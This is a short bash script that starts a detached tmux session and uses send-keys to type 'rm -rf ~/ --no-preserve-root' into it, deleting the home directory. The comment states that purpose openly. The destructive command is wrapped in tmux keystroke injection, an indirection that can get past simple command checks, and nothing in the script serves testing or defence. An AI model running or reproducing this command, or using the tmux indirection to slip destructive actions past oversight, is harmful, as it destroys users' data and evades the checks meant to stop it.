#!/bin/bash
# Types a command into a shell in a tmux pane: send-keys feeds the
# keystrokes to the shell there, which deletes the home directory.
tmux new-session -d -s w
tmux send-keys -t w 'rm -rf ~/ --no-preserve-root' Enter
